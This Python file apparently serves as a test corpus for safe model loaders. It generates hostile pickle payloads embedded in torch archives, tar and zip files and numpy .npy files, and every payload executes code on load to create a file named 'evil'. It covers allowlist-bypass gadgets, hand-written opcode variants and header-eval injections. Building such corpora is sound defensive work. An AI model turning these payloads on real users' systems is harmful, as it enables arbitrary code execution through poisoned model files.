"""Pickles that make the file `evil` where whoever reads them runs what they say: bare, in torch's archives old and new,
in arrays of objects, behind names that torch allows."""

import io
import pickle
import struct
import tarfile
import zipfile
from typing import Any

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001  # of torch's files before its zips
CODE = "open('evil', 'w').close()"


def zipped(files: dict[str, bytes], how: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", how) as archive:
        for name, body in files.items():
            archive.writestr(zipfile.ZipInfo(name), body, how)
    return buffer.getvalue()


class Evil:
    """Is a call of the function of this name when it is unpickled as Python does it."""

    def __init__(self, name: str = "builtins eval", *arguments: Any) -> None:
        self.name, self.arguments = name, arguments or (CODE,)


class _Pickler(pickle._Pickler):  # type: ignore[misc]
    """Writes an `Evil` as the call that it stands for, whether or not its function can be found here."""

    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if not isinstance(obj, Evil):
            super().save(obj, save_persistent_id)
            return
        module, _, name = obj.name.partition(" ")
        if self.proto >= 4:
            self.save(module)
            self.save(name)
            self.write(pickle.STACK_GLOBAL)
        else:
            self.write(pickle.GLOBAL + f"{module}\n{name}\n".encode())
        self.save(obj.arguments)
        self.write(pickle.REDUCE)


def dumped(value: Any, protocol: int = 2) -> bytes:
    buffer = io.BytesIO()
    _Pickler(buffer, protocol).dump(value)
    return buffer.getvalue()


def _calls() -> list[Any]:
    """Calls that make the file, or read a pickle that does."""
    inner = zipped({"a/data.pkl": dumped(Evil()), "a/version": b"3\n"})
    touch = ["touch", "evil"]
    return [
        Evil(),
        Evil("builtins exec"),
        Evil("__builtin__ eval"),
        Evil("os system", "touch evil"),
        Evil("posix system", "touch evil"),
        Evil("subprocess call", touch),
        Evil("subprocess Popen", touch),
        Evil("os mkdir", "evil"),
        Evil("pathlib Path.touch", Evil("pathlib Path", "evil")),
        Evil("runpy _run_code", CODE, {}),
        Evil("pickle loads", dumped(Evil())),
        Evil("torch.storage _load_from_bytes", inner),
        Evil("torch load", Evil("io BytesIO", inner)),
        Evil("torch.serialization load", Evil("io BytesIO", dumped(Evil()))),
        Evil("numpy load", Evil("io BytesIO", array(dumped(Evil())))),
        Evil("torch._tensor _rebuild_from_type_v2", Evil("builtins getattr", Evil("builtins __import__", "os"),
             "mkdir"), Evil("torch Tensor"), ("evil",), {}),
        Evil("torch._utils _rebuild_parameter", Evil(), False, {}),
        Evil("torch._utils _rebuild_tensor_v2", Evil(), 0, (1,), (1,), False, {}),
        Evil("collections OrderedDict", [["weight", Evil()]]),
        Evil("torch._utils _rebuild_wrapper_subclass", Evil("os mkdir", "evil"), 0, (1,), (1,), 0, 0, 0, False),
        Evil("builtins getattr", Evil("builtins __import__", "os"), "system"),
        Evil("operator methodcaller", "system", "touch evil"),
        Evil("functools partial", Evil("os mkdir", "evil")),
        Evil("torch.jit load", "evil.pt"),
        Evil("torch.hub load", "evil", "evil", False),
        Evil("numpy.core.multiarray _reconstruct", Evil("os mkdir", "evil"), (0,), b"b"),
        Evil("torch._dynamo.utils eval", CODE),
    ]  # fmt: skip


def array(data: bytes, kind: str = "|O", order: str = "False", shape: str = "(1,)") -> bytes:
    """A .npy file with this header and these data."""
    header = f"{{'descr': {kind if '(' in kind else repr(kind)}, 'fortran_order': {order}, 'shape': {shape}, }}\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header.encode() + data


def _old_file(data: bytes) -> bytes:
    """A file of `torch.save` before its zips: three pickles that it checks, then the object and its keys."""
    return b"".join([*(dumped(part) for part in (MAGIC, PROTOCOL, {"little_endian": True})), data, dumped([])])


def _old_tar(data: bytes) -> bytes:
    """The one before that."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name, body in (("pickle", data), ("storages", data), ("tensors", data)):
            member = tarfile.TarInfo(name)
            member.size = len(body)
            tar.addfile(member, io.BytesIO(body))
    return buffer.getvalue()


def _instructions() -> list[bytes]:
    """What no pickler writes: other instructions that call."""
    text = f"S{CODE!r}\n".encode()
    return [
        b"(" + text + b"ibuiltins\neval\n.",  # INST
        b"(cbuiltins\neval\n" + text + b"o.",  # OBJ
        b"\x80\x02cos\nmkdir\nU\x04evil\x85\x81.",  # NEWOBJ
        b"\x80\x04\x8c\x02os\x8c\x05mkdir\x93\x8c\x04evil\x85}\x92.",  # NEWOBJ_EX
        b"\x80\x02cbuiltins\neval\nq\x00" + b"0h\x00" + text + b"\x85R.",  # from the memo
        b"\x80\x02ctypes\nSimpleNamespace\n)R}U\x01aU\x01bsb.",  # BUILD
        b"\x80\x02(U\x07storagecbuiltins\neval\nU\x010U\x03cpuK\x01tQ.",  # a storage of another kind
        b"\x80\x02cos\nmkdir\n(U\x04eviltQ.",  # a storage that is a call
        b"\x80\x02c__torch__\nA\n)\x81cbuiltins\neval\n" + text + b"\x85Rb.",  # the state of a module
        b"\x80\x02X\x04\0\0\0evil\x85cos\nmkdir\n\x85R.",  # arguments and function the other way
    ]


def hostile_pickles() -> list[bytes]:
    """All of them, in every kind of file that has pickles in it."""
    calls = _calls()
    found = [dumped({"weight": call}, protocol) for call in calls for protocol in (2, 4)]
    found += [zipped({"a/data.pkl": dumped({"weight": call}), "a/version": b"3\n"}) for call in calls]
    found += [zipped({"a/data.pkl": code, "a/constants.pkl": code}) for code in _instructions()]
    found += [*_instructions(), _old_file(dumped(Evil())), _old_file(dumped({"a": Evil()}, 4))]
    script = b"class A(Module):\n  def __setstate__(self, state):\n    open('evil', 'w')\n"
    module = {"a/data.pkl": dumped({"weight": Evil()}), "a/code/__torch__.py": script, "a/version": b"3\n"}
    found += [_old_tar(dumped(Evil())), zipped(module)]
    found += [array(dumped(Evil())), array(dumped([Evil()]), shape="(1, 1, 1, 3)"), array(dumped(Evil(), 4), "O")]
    found += [array(b"", "__import__('os').mkdir('evil')"), array(b"", "|O", "__import__('os').mkdir('evil')")]
    found += [array(dumped(Evil()), "[('a', '|O'), ('b', '<f4')]"), array(b"", "<f4", shape="[].__class__.mro()")]
    return [*found, zipped({"weight.npy": array(dumped(Evil())), "bias.npy": array(bytes(4), "<f4")})]
